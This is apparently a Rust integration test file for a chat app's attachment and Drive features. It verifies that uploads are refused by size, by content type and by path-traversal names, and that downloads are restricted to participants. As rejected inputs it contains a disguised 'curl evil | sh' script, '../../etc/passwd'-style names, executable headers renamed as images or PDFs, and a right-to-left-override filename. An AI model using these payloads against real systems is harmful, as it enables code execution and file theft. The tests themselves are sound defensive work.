//! Attachments over the real router (issue 5): uploads are streamed and checked (size, type by
//! content, names) and a refused one leaves no row and no file; downloads go to the people in
//! the chat only, with headers that stop browsers guessing or running them; the live chat
//! settings are enforced by the server; and the Drive keeps folders and files for staff.

mod common;

use app::api::ApiError;
use app::model::{ChatSettings, DriveFile, DriveFolder, DriveListing, Started};
use app::protocol::ServerFrame;
use app::rules::{Author, Event, Refusal, SharedFile};
use common::*;
use serde_json::json;
use std::path::{Path, PathBuf};

/// A small but real PNG (1×1, transparent).
const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4,
    0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00,
    0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae,
    0x42, 0x60, 0x82,
];

/// A chat in Sales that Ann has accepted, with sockets for the visitor and Ann.
async fn accepted(d: &Desk, name: &str) -> (Started, Ws, Ws) {
    let started = d
        .server
        .start_chat(name, "Can I send you a photo?", Some(d.sales))
        .await;
    let mut ann = d.server.staff("ann", &d.ann.1).await;
    d.server.chat_op(&d.ann.1, started.chat_id, "Accept").await;
    ann.watch(started.chat_id, 0).await;
    let mut visitor = d.server.visitor("visitor", &started, 0).await;
    visitor.wait_for_seq(started.chat_id, 2).await;
    (started, visitor, ann)
}

/// The visitor sends `bytes` as `name` into their chat.
async fn visitor_upload(
    d: &Desk,
    started: &Started,
    name: &str,
    bytes: &[u8],
) -> Result<SharedFile, ApiError> {
    post_multipart(
        &d.server,
        "upload_attachment",
        None,
        &[
            ("chat_id", started.chat_id.to_string()),
            ("token", started.token.clone()),
        ],
        Some((name, bytes)),
    )
    .await
}

/// A staff member sends `bytes` as `name` into a chat.
async fn staff_upload(
    d: &Desk,
    session: &str,
    chat_id: i64,
    name: &str,
    bytes: &[u8],
) -> Result<SharedFile, ApiError> {
    post_multipart(
        &d.server,
        "upload_attachment",
        Some(session),
        &[("chat_id", chat_id.to_string())],
        Some((name, bytes)),
    )
    .await
}

/// The message of the `file` field of an `Invalid` error.
fn file_error(e: ApiError) -> String {
    e.field("file")
        .unwrap_or_else(|| panic!("expected an Invalid error on the file, got {e:?}"))
}

async fn save_settings(d: &Desk, settings: ChatSettings) {
    call_raw(
        &d.server,
        Some(&d.ada.1),
        "admin_save_live_chat_settings",
        json!({ "settings": settings }),
    )
    .await
    .expect("save the settings");
}

/// Every regular file under `<data>/files`, pending ones included.
fn stored_files(dir: &Path) -> Vec<PathBuf> {
    fn walk(p: &Path, out: &mut Vec<PathBuf>) {
        let Ok(entries) = std::fs::read_dir(p) else {
            return;
        };
        for e in entries.flatten() {
            let path = e.path();
            if path.is_dir() {
                walk(&path, out);
            } else {
                out.push(path);
            }
        }
    }
    let mut out = Vec::new();
    walk(&dir.join("files"), &mut out);
    out
}

fn attachments(ws: &Ws, chat_id: i64) -> Vec<(Author, SharedFile)> {
    ws.events(chat_id)
        .into_iter()
        .filter_map(|e| match e.event {
            Event::Attachment { author, file } => Some((author, file)),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn refused_uploads_are_explained_and_leave_no_row_and_no_file() {
    let d = desk().await;
    let (started, mut visitor, _ann) = accepted(&d, "Vera Visitor").await;
    save_settings(
        &d,
        ChatSettings {
            max_file_bytes: 64 * 1024,
            ..ChatSettings::default()
        },
    )
    .await;

    // One byte over the limit, streamed in well past it.
    let big = vec![b'a'; 64 * 1024 + 1];
    let e = file_error(
        visitor_upload(&d, &started, "notes.txt", &big)
            .await
            .unwrap_err(),
    );
    assert!(e.contains("larger than the limit of 64.0 KB"), "{e}");

    // Programs and scripts disguised by their names are recognised by their first bytes.
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.resize(20_000, 0);
    let e = file_error(
        visitor_upload(&d, &started, "photo.png", &elf)
            .await
            .unwrap_err(),
    );
    assert_eq!(
        e,
        "photo.png is a program; files of that type cannot be sent."
    );
    let mut pe = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    pe.resize(300, 0);
    let e = file_error(
        staff_upload(&d, &d.ann.1, started.chat_id, "invoice.pdf", &pe)
            .await
            .unwrap_err(),
    );
    assert_eq!(
        e,
        "invoice.pdf is a program; files of that type cannot be sent."
    );
    let e = file_error(
        visitor_upload(&d, &started, "holiday.jpg", b"#!/bin/sh\ncurl evil | sh\n")
            .await
            .unwrap_err(),
    );
    assert_eq!(
        e,
        "holiday.jpg is a script; files of that type cannot be sent."
    );
    // And by name too.
    let e = file_error(
        visitor_upload(&d, &started, "setup.EXE", b"hello")
            .await
            .unwrap_err(),
    );
    assert!(e.contains("is a program"), "{e}");

    // Names that climb out of a folder.
    for name in ["../../etc/passwd", "..\\..\\boot.ini", "a/../../b.txt"] {
        let e = file_error(
            visitor_upload(&d, &started, name, b"text")
                .await
                .unwrap_err(),
        );
        assert!(e.contains("must not contain a path"), "{name}: {e}");
    }
    // Empty files and forms without a file.
    let e = file_error(
        visitor_upload(&d, &started, "empty.txt", b"")
            .await
            .unwrap_err(),
    );
    assert_eq!(e, "empty.txt is empty.");
    let e: ApiError = post_multipart::<SharedFile>(
        &d.server,
        "upload_attachment",
        None,
        &[("chat_id", started.chat_id.to_string())],
        None,
    )
    .await
    .unwrap_err();
    assert_eq!(file_error(e), "Choose a file to send.");

    assert_eq!(
        common::count_rows(d.dir.path(), "chat_attachments").await,
        0
    );
    assert_eq!(stored_files(d.dir.path()), Vec::<PathBuf>::new());

    // A name with a harmless folder and a direction override is cleaned, then accepted.
    let shared = visitor_upload(&d, &started, "C:\\Users\\vera\\sn\u{202e}ap.png", PNG)
        .await
        .unwrap();
    assert_eq!(shared.name, "snap.png");
    assert_eq!(shared.content_type, "image/png");
    assert_eq!(shared.size, PNG.len() as u64);
    assert_eq!(
        common::count_rows(d.dir.path(), "chat_attachments").await,
        1
    );
    assert_eq!(stored_files(d.dir.path()).len(), 1);
    // It reached the chat as a stored event with the next sequence number.
    visitor.wait_for_seq(started.chat_id, 3).await;
    assert_eq!(
        attachments(&visitor, started.chat_id),
        [(Author::Visitor, shared.clone())]
    );
    // A tab that reconnects catches up on it from storage, like on a message.
    let late = d.server.visitor("late visitor", &started, 2).await;
    assert_eq!(
        attachments(&late, started.chat_id),
        [(Author::Visitor, shared)]
    );

    // An upload cut short by a stop leaves a pending file; the next start clears it once it
    // has been idle for an hour, and keeps the stored ones. A fresh one may be another node's
    // upload in progress: it stays.
    let pending = d.dir.path().join("files/tmp");
    let cut_short = pending.join("0123456789abcdef0123456789abcdef.part");
    let in_progress = pending.join("fedcba9876543210fedcba9876543210.part");
    std::fs::write(&cut_short, b"half").unwrap();
    std::fs::write(&in_progress, b"half").unwrap();
    let two_hours_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(7200);
    std::fs::File::options()
        .write(true)
        .open(&cut_short)
        .unwrap()
        .set_modified(two_hours_ago)
        .unwrap();
    d.server.stop().await;
    let again = TestServer::start(d.dir.path()).await;
    assert!(!cut_short.exists());
    assert!(in_progress.exists());
    std::fs::remove_file(&in_progress).unwrap();
    assert_eq!(stored_files(d.dir.path()).len(), 1);
    again.stop().await;
}

#[tokio::test]
async fn downloads_go_to_the_people_in_the_chat_only() {
    let d = desk().await;
    let (started, _visitor, mut ann) = accepted(&d, "Vera Visitor").await;
    let other = d
        .server
        .start_chat("Otto Other", "Hello?", Some(d.sales))
        .await;
    let shared = visitor_upload(&d, &started, "Prix d’été.png", PNG)
        .await
        .unwrap();
    ann.wait_for_seq(started.chat_id, 3).await;
    let pdf = staff_upload(
        &d,
        &d.ann.1,
        started.chat_id,
        "terms.pdf",
        b"%PDF-1.4\n%...",
    )
    .await
    .unwrap();
    assert_eq!(pdf.content_type, "application/pdf");
    let path = format!("/files/chat/{}/{}", started.chat_id, shared.id);
    let get = |url: String, session: Option<&str>| {
        let mut req = d.server.http().get(d.server.url(&url));
        if let Some(s) = session {
            req = req.header(reqwest::header::COOKIE, format!("hd_session={s}"));
        }
        req.send()
    };

    // The chat's visitor, with the chat's token.
    let res = get(format!("{path}?token={}", started.token), None)
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let h = res.headers().clone();
    assert_eq!(h["content-type"], "image/png");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(
        h["content-disposition"],
        "attachment; filename=\"Prix d__t_.png\"; filename*=UTF-8''Prix%20d%E2%80%99%C3%A9t%C3%A9.png"
    );
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);

    // A preview of a raster image may be shown inline; anything else stays a download.
    let res = get(format!("{path}?token={}&inline=1", started.token), None)
        .await
        .unwrap();
    assert!(res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("inline;"));
    let pdf_path = format!("/files/chat/{}/{}", started.chat_id, pdf.id);
    let res = get(format!("{pdf_path}?inline=1"), Some(&d.ann.1))
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/pdf");
    assert!(res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment;"));

    // Staff in the chat, by session.
    let res = get(path.clone(), Some(&d.ann.1)).await.unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);

    // Signed out: no token, no session, or a session that ended.
    assert_eq!(get(path.clone(), None).await.unwrap().status(), 403);
    assert_eq!(
        get(path.clone(), Some("not-a-session"))
            .await
            .unwrap()
            .status(),
        403
    );
    // The visitor of another chat, with their own token, here or under their own chat.
    let res = get(format!("{path}?token={}", other.token), None)
        .await
        .unwrap();
    assert_eq!(res.status(), 404);
    let res = get(
        format!(
            "/files/chat/{}/{}?token={}",
            other.chat_id, shared.id, other.token
        ),
        None,
    )
    .await
    .unwrap();
    assert_eq!(res.status(), 404);
    // Staff who are not in the chat, admins included.
    assert_eq!(
        get(path.clone(), Some(&d.bob.1)).await.unwrap().status(),
        404
    );
    assert_eq!(
        get(path.clone(), Some(&d.ada.1)).await.unwrap().status(),
        404
    );
    // Drive files are for staff only.
    assert_eq!(
        get("/files/drive/1".into(), None).await.unwrap().status(),
        403
    );
}

#[tokio::test]
async fn the_server_enforces_the_attachment_settings_and_the_chat_rules() {
    let d = desk().await;
    let (started, mut visitor, _ann) = accepted(&d, "Vera Visitor").await;
    let attach_frames = |ws: &Ws| -> Vec<bool> {
        ws.frames
            .iter()
            .filter_map(|f| match f {
                ServerFrame::Settings { attachments, .. } => Some(*attachments),
                _ => None,
            })
            .collect()
    };
    assert_eq!(attach_frames(&visitor), [true]);
    // The widget learns whether it may attach and the size limit, never the rest.
    assert!(visitor.frames_mentioning("block_").is_empty());
    assert!(visitor.frames_mentioning("visitor_attachments").is_empty());
    assert_eq!(
        visitor
            .frames_mentioning("\"max_file_bytes\":10485760")
            .len(),
        1
    );

    save_settings(
        &d,
        ChatSettings {
            visitor_attachments: false,
            ..ChatSettings::default()
        },
    )
    .await;
    // The widget hears it live.
    visitor
        .recv_until("settings with attachments off", |f| {
            matches!(
                f,
                ServerFrame::Settings {
                    attachments: false,
                    ..
                }
            )
        })
        .await;
    assert_eq!(
        visitor_upload(&d, &started, "photo.png", PNG).await,
        Err(ApiError::Refused(Refusal::AttachmentsOff))
    );
    assert_eq!(
        ApiError::Refused(Refusal::AttachmentsOff).to_string(),
        "Visitors cannot send files in this chat."
    );
    // A wrong token is no way round it, and neither is a staff upload without a session.
    assert_eq!(
        post_multipart::<SharedFile>(
            &d.server,
            "upload_attachment",
            None,
            &[
                ("chat_id", started.chat_id.to_string()),
                ("token", "0".repeat(64)),
            ],
            Some(("photo.png", PNG)),
        )
        .await,
        Err(ApiError::NotFound)
    );
    assert_eq!(
        staff_upload(&d, "nobody", started.chat_id, "photo.png", PNG).await,
        Err(ApiError::Unauthorized)
    );
    // Staff not in the chat, or only monitoring it, cannot send into it.
    assert_eq!(
        staff_upload(&d, &d.bob.1, started.chat_id, "photo.png", PNG).await,
        Err(ApiError::Refused(Refusal::NotInChat))
    );
    d.server
        .chat_op(&d.bob.1, started.chat_id, "JoinInvisibly")
        .await;
    assert_eq!(
        staff_upload(&d, &d.bob.1, started.chat_id, "photo.png", PNG).await,
        Err(ApiError::Refused(Refusal::MonitorCannotSend))
    );
    assert_eq!(
        common::count_rows(d.dir.path(), "chat_attachments").await,
        0
    );
    assert!(stored_files(d.dir.path()).is_empty());

    // Staff may still send.
    staff_upload(&d, &d.ann.1, started.chat_id, "photo.png", PNG)
        .await
        .unwrap();
    // Visitors again, once the setting is back on.
    save_settings(&d, ChatSettings::default()).await;
    visitor_upload(&d, &started, "photo.png", PNG)
        .await
        .unwrap();
    assert_eq!(
        common::count_rows(d.dir.path(), "chat_attachments").await,
        2
    );

    // An ended chat takes no more files, and the refused file is not kept.
    d.server.chat_op(&d.ann.1, started.chat_id, "End").await;
    assert_eq!(
        visitor_upload(&d, &started, "late.png", PNG).await,
        Err(ApiError::Refused(Refusal::ChatEnded))
    );
    assert_eq!(
        common::count_rows(d.dir.path(), "chat_attachments").await,
        2
    );
    assert_eq!(stored_files(d.dir.path()).len(), 2);
}

#[tokio::test]
async fn the_drive_keeps_folders_and_files_that_staff_share_into_chats() {
    let d = desk().await;
    let (started, mut visitor, _ann) = accepted(&d, "Vera Visitor").await;
    let ann = d.ann.1.as_str();

    let guides: DriveFolder = call(
        &d.server,
        ann,
        "drive_new_folder",
        json!({ "parent": null, "name": "Guides" }),
    )
    .await;
    let e = refused(
        &d.server,
        Some(ann),
        "drive_new_folder",
        json!({ "parent": null, "name": "guides" }),
    )
    .await;
    assert_eq!(
        e,
        ApiError::Conflict("There is already a folder named guides here.".into())
    );
    let returns: DriveFolder = call(
        &d.server,
        ann,
        "drive_new_folder",
        json!({ "parent": guides.id, "name": "Returns" }),
    )
    .await;
    let bad = refused(
        &d.server,
        Some(ann),
        "drive_new_folder",
        json!({ "parent": guides.id, "name": "../up" }),
    )
    .await;
    assert!(bad.field("name").is_some(), "{bad:?}");

    let file: DriveFile = post_multipart(
        &d.server,
        "drive_upload",
        Some(ann),
        &[("folder", returns.id.to_string())],
        Some(("label.png", PNG)),
    )
    .await
    .unwrap();
    assert_eq!(file.folder_id, Some(returns.id));
    assert_eq!(file.uploaded_by, "Ann Lee");
    // The Drive checks uploads like a chat does.
    let e = post_multipart::<DriveFile>(
        &d.server,
        "drive_upload",
        Some(ann),
        &[("folder", returns.id.to_string())],
        Some(("tool.png", b"MZ\x90\x00")),
    )
    .await
    .unwrap_err();
    assert!(file_error(e).contains("is a program"));

    let listing: DriveListing = call(
        &d.server,
        ann,
        "drive_list",
        json!({ "folder": returns.id }),
    )
    .await;
    assert_eq!(listing.path, vec![guides.clone()]);
    assert_eq!(listing.files, vec![file.clone()]);
    let top: DriveListing = call(&d.server, ann, "drive_list", json!({ "folder": null })).await;
    assert_eq!(top.folders, vec![guides.clone()]);
    assert!(top.files.is_empty());

    let renamed: DriveFile = call(
        &d.server,
        ann,
        "drive_rename_file",
        json!({ "id": file.id, "name": "Return label.png" }),
    )
    .await;
    assert_eq!(renamed.name, "Return label.png");
    let renamed_folder: DriveFolder = call(
        &d.server,
        ann,
        "drive_rename_folder",
        json!({ "id": returns.id, "name": "Returns and refunds" }),
    )
    .await;
    assert_eq!(renamed_folder.name, "Returns and refunds");

    // A Drive file is downloaded by staff, never by anyone else.
    let res = d
        .server
        .http()
        .get(d.server.url(&format!("/files/drive/{}", file.id)))
        .header(reqwest::header::COOKIE, format!("hd_session={ann}"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(
        res.headers()["content-disposition"],
        "attachment; filename=\"Return label.png\"; filename*=UTF-8''Return%20label.png"
    );
    assert_eq!(
        refused(&d.server, None, "drive_list", json!({ "folder": null })).await,
        ApiError::Unauthorized
    );

    // Shared into the chat, the visitor sees it and downloads it.
    let shared: SharedFile = call(
        &d.server,
        ann,
        "share_drive_file",
        json!({ "chat_id": started.chat_id, "file_id": file.id }),
    )
    .await;
    assert_eq!(shared.name, "Return label.png");
    visitor.wait_for_seq(started.chat_id, 3).await;
    assert_eq!(attachments(&visitor, started.chat_id).len(), 1);
    let chat_url = format!(
        "/files/chat/{}/{}?token={}",
        started.chat_id, shared.id, started.token
    );
    let body = d
        .server
        .http()
        .get(d.server.url(&chat_url))
        .send()
        .await
        .unwrap();
    assert_eq!(body.status(), 200);

    // A folder goes only once it is empty; the chat keeps its copy of a deleted file.
    let e = refused(
        &d.server,
        Some(ann),
        "drive_delete_folder",
        json!({ "id": returns.id }),
    )
    .await;
    assert!(
        matches!(e, ApiError::Conflict(ref m) if m.contains("not empty")),
        "{e:?}"
    );
    let before = stored_files(d.dir.path()).len();
    let _: () = call(
        &d.server,
        ann,
        "drive_delete_file",
        json!({ "id": file.id }),
    )
    .await;
    assert_eq!(stored_files(d.dir.path()).len(), before - 1);
    assert_eq!(common::count_rows(d.dir.path(), "drive_files").await, 0);
    let _: () = call(
        &d.server,
        ann,
        "drive_delete_folder",
        json!({ "id": returns.id }),
    )
    .await;
    let top: DriveListing =
        call(&d.server, ann, "drive_list", json!({ "folder": guides.id })).await;
    assert!(top.folders.is_empty() && top.files.is_empty());
    let body = d
        .server
        .http()
        .get(d.server.url(&chat_url))
        .send()
        .await
        .unwrap();
    assert_eq!(body.status(), 200);
    assert_eq!(body.bytes().await.unwrap().as_ref(), PNG);

    // Every change is in the audit trail.
    let page: app::api::admin::AuditPage =
        call(&d.server, &d.ada.1, "admin_audit", json!({})).await;
    let ops: Vec<&str> = page.entries.iter().map(|e| e.op.as_str()).collect();
    for op in [
        "DriveNewFolder",
        "DriveUpload",
        "DriveRename",
        "DriveRenameFolder",
        "DriveDelete",
        "DriveDeleteFolder",
    ] {
        assert!(ops.contains(&op), "{op} missing from {ops:?}");
    }
}
